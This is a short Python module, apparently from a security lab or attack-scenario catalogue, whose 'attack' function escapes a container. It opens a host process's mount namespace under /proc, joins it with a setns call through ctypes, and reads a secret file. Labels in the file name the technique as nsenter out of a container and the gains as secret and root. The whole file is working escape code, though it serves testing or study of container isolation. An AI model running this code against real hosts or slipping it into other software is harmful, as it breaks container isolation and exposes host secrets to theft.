"""Join the mount namespace of a host process."""

from __future__ import annotations

import ctypes
import os

ORIGIN = "nsenter out of a container."
SEEN = "secret"
CONTROL = "root"


def attack(target):
    descriptor = os.open(f"/proc/{target['host_pid']}/ns/mnt", os.O_RDONLY)
    if ctypes.CDLL(None).setns(descriptor, 0) != 0:
        return None
    with open(target["secret_file"]) as stream:
        return stream.read()
